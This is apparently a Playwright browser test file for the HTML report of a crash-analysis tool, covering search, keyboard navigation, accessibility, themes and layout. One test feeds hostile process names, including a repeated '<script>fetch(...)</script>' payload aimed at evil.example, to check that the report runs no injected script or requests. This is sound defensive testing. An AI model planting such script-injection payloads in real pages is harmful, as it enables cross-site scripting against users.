/** The HTML report in a real browser. */
import { describe, expect, test } from 'vitest';
import { analyse } from '../../src/analyse.ts';
import { renderHtml } from '../../src/report/html.ts';
import * as r from '../records.ts';
import { browser, type Opened } from './browser.ts';
import { recorded, told } from './golden.ts';
import { fragments } from './hostile.ts';

const { open } = browser();
const shown = (page: Opened['page']) => page.locator('.incident:visible').count();

describe('search', () => {
  test('shows the incidents that hold every word, and their lanes; / begins, Escape ends', async () => {
    const { page, complaints, requests } = await open(renderHtml(recorded('causes')));
    const all = await shown(page);
    await page.keyboard.press('/');
    await page.keyboard.type('handled- WRITE');
    expect(await shown(page)).toBe(3);
    expect(await page.locator('#timeline li:visible').count()).toBe(3);
    expect(await page.locator('#found').textContent()).toBe(`3 of ${all} shown`);
    await page.keyboard.press('Escape');
    expect(await shown(page)).toBe(all);
    await page.keyboard.type('zzz');
    expect(await shown(page)).toBe(0);
    expect({ complaints, requests: requests.length }).toEqual({ complaints: [], requests: 1 });
  });

  test('levels can be hidden', async () => {
    const warning = r.exited(3, {
      ...r.process(950, '/opt/worker'),
      cgroup: '/system.slice/x.service',
      ancestors: [r.init],
      listening: [r.listening(91)],
    });
    const { page } = await open(renderHtml(analyse(r.recording([...r.job(), warning, r.segfaulted()]))));
    expect(await shown(page)).toBe(2);
    await page.getByLabel('warning').uncheck();
    expect(await shown(page)).toBe(1);
  });
});

describe('the keyboard', () => {
  test('zooms, moves and resets the timeline', async () => {
    const { page } = await open(renderHtml(told('steps')));
    const mark = page.locator('#timeline [data-at="12400"]').first();
    const range = page.locator('#range');
    const whole = { x: await mark.getAttribute('x'), range: await range.textContent() };
    await page.locator('#timeline').focus();
    await page.keyboard.press('+');
    const zoomed = await mark.getAttribute('x');
    expect(Number.parseFloat(zoomed!)).toBeCloseTo(((12.4 - 11.8) / 23.6) * 100, 1);
    await page.keyboard.press('ArrowRight');
    expect(Number.parseFloat((await mark.getAttribute('x'))!)).toBeLessThan(Number.parseFloat(zoomed!));
    await page.keyboard.press('0');
    expect({ x: await mark.getAttribute('x'), range: await range.textContent() }).toEqual({ x: '26.2712%', range: whole.range });
    for (let times = 0; times < 40; times++) await page.keyboard.press('+');
    expect(await page.locator('#axis text').count()).toBeGreaterThan(1);
  });

  test('reaches everything, and a lane leads to its incident', async () => {
    const { page } = await open(renderHtml(recorded('causes')));
    await page.keyboard.press('Tab');
    expect(await page.evaluate('document.activeElement.textContent')).toBe('Skip to the incidents');
    const lane = page.locator('#timeline a').nth(4);
    await lane.focus();
    await page.keyboard.press('Enter');
    const id = (await lane.getAttribute('href'))!.slice(1);
    // A locator, for the page forbids the eval() by which waitForFunction() looks again.
    await page.locator(`#${id}:focus-within`).waitFor();
    expect(await page.locator(`#${id} details`).getAttribute('open')).toBe('');
    await page.keyboard.press('Enter');
    expect(await page.locator(`#${id} details`).getAttribute('open')).toBeNull();
    await page.getByRole('button', { name: 'Open all' }).press('Enter');
    expect(await page.locator('.incident details:not([open])').count()).toBe(0);
  });
});

test('for a screen reader, there are headings, names and times', async () => {
  const { page } = await open(renderHtml(told('steps')));
  const tree = await page.locator('body').ariaSnapshot();
  expect(tree).toContain('heading "3 hidden crashes behind a passing job" [level=1]');
  expect(tree).toContain('link "nginx: worker process died of SIGSEGV at +12.4 s and +31 s"');
  expect(tree).toContain('heading "SIGSEGV nginx: worker process died of SIGSEGV" [level=3]');
  expect(tree).toContain('searchbox "Search"');
  expect(tree).toContain('group "Timeline.');
  expect(tree).toContain('columnheader "what took its place"');
});

test('the mouse zooms and moves', async () => {
  const { page } = await open(renderHtml(told('steps')));
  const mark = page.locator('#timeline [data-at="12400"]').first();
  await page.getByRole('button', { name: 'zoom in' }).click();
  const zoomed = Number.parseFloat((await mark.getAttribute('x'))!);
  const { x, y, width } = (await page.locator('#axis').boundingBox())!;
  await page.mouse.move(x + width / 2, y + 5);
  await page.mouse.down();
  await page.mouse.move(x + width / 2 + width / 10, y + 5);
  await page.mouse.up();
  expect(Number.parseFloat((await mark.getAttribute('x'))!)).toBeCloseTo(zoomed + 10, 0);
});

test('light and dark: what the system says, or the button', async () => {
  const background = ({ page }: Opened) => page.evaluate('getComputedStyle(document.body).backgroundColor');
  const dark = await open(renderHtml(told('worker')), 'dark');
  const light = await open(renderHtml(told('worker')), 'light');
  const [black, white] = [await background(dark), await background(light)];
  expect([black, white]).toEqual(['rgb(13, 17, 23)', 'rgb(255, 255, 255)']);
  await dark.page.getByRole('button', { name: 'Light or dark' }).click();
  expect(await background(dark)).toBe(white);
  await dark.page.getByRole('button', { name: 'Light or dark' }).click();
  expect(await background(dark)).toBe(black);
});

test('names bring no script, no element and no request along', async () => {
  const names = [...fragments, fragments.join(''), `${'<script>fetch("https://evil.example")</script>'.repeat(1400)}`];
  const crashes = names.map((name, index) =>
    r.segfaulted({ ...r.process(1000 + index, [`/bin/${name}`, name]), comm: name, cwd: name, step: name, threadName: name, cgroup: `/${name}` }),
  );
  const report = analyse(r.recording([...r.job(0, names), ...crashes], { header: { kernel: names.at(-2)! }, trailer: { why: names.at(-2)! } }));
  const { page, complaints, requests } = await open(renderHtml(report));
  expect(await shown(page)).toBe(report.incidents.length);
  expect(await page.locator('script, style, img, iframe, object, embed, form, link, base').count()).toBe(2);
  expect(
    await page.evaluate(
      `[...document.querySelectorAll('*')].flatMap(element => element.getAttributeNames()).filter(name => name.startsWith('on') || name === 'style')`,
    ),
  ).toEqual([]);
  await page.locator('#fold').click();
  await page.locator('#query').fill('<script>');
  expect(await shown(page)).toBeGreaterThan(0);
  expect({ complaints, requests: requests.length }).toEqual({ complaints: [], requests: 1 });
});

test('a narrow window needs no sideways scrolling', async () => {
  const { page } = await open(renderHtml(told('steps')));
  await page.setViewportSize({ width: 380, height: 800 });
  expect(await page.evaluate('document.documentElement.scrollWidth <= innerWidth')).toBe(true);
});
